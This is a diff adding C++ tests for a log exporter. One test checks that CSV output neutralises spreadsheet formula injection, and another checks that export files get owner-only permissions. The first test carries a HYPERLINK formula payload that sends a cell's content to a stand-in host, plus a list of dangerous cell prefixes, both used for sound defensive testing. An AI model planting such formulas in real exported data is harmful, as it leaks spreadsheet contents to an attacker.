@@ -2,6 +2,8 @@
 // the one before it.
 #include "orglog/export/export.hpp"
 
+#include <sys/stat.h>
+
 #include <boost/json/parse.hpp>
 #include <fstream>
 #include <iterator>
@@ -281,6 +283,41 @@ TEST_CASE("CSV quotes as RFC 4180 says and tells empty from absent") {
   CHECK(text.find("\"{\"\"user\"\":\"\"joe@acme.com\"\",\"\"name\"\":\"\"Joe "
                   "\\\"\"J\\\"\", jr.\"\",") != std::string::npos);
   CHECK(text.ends_with("}\"\r\n"));
+}
+
+TEST_CASE("F-B13: a CSV cell that a spreadsheet would run is only text") {
+  World world;
+  // Addresses are cells of their own; older releases took such ones.
+  const AccountId odd{derive_uuid(Uuid{}, 9, "odd")};
+  world.add(at("2026-01-05T10:00:00Z"),
+            {AccountRegistered{odd, *Email::parse("=HYPERLINK(\"//x\"&B2)@acme.example"), "", {}}});
+  world.add(at("2026-01-05T10:00:00Z"), {AppLocked{web, World::owner()}}, odd);
+  world.run("out", Format::csv);
+  std::size_t harmless = 0;
+  for (const auto& [path, text] : files_of(world.to("out"))) {
+    CAPTURE(path);
+    for (const char* cell : {",=", ",\"=", "\n=", ",+", ",-", ",@", ",\"@", ",\"+"})
+      CHECK(text.find(cell) == std::string::npos);
+    if (text.find("\"'=HYPERLINK(\"\"//x\"\"&B2)@acme.example\"") != std::string::npos) ++harmless;
+  }
+  CHECK(harmless > 0);
+  world.run("rows", Format::ndjson);
+  CHECK(world.rows("rows", "events").at(7).at("actor") == "=HYPERLINK(\"//x\"&B2)@acme.example");
+}
+
+TEST_CASE("F-B13: an export is its owner's alone, whatever the mask of the process") {
+  const mode_t former = ::umask(0);
+  for (const Format format : {Format::ndjson, Format::csv, Format::sqlite}) {
+    World world;
+    world.run("out", format);
+    CHECK(fs::status(world.to("out")).permissions() == fs::perms::owner_all);
+    for (const auto& entry : fs::recursive_directory_iterator(world.to("out"))) {
+      CAPTURE(entry.path().string());
+      const auto expected = entry.is_directory() ? fs::perms(0700) : fs::perms(0600);
+      CHECK(entry.status().permissions() == expected);
+    }
+  }
+  CHECK(::umask(former) == 0);
 }
 
 TEST_CASE("dates that jump make bounded parts and lose nothing") {
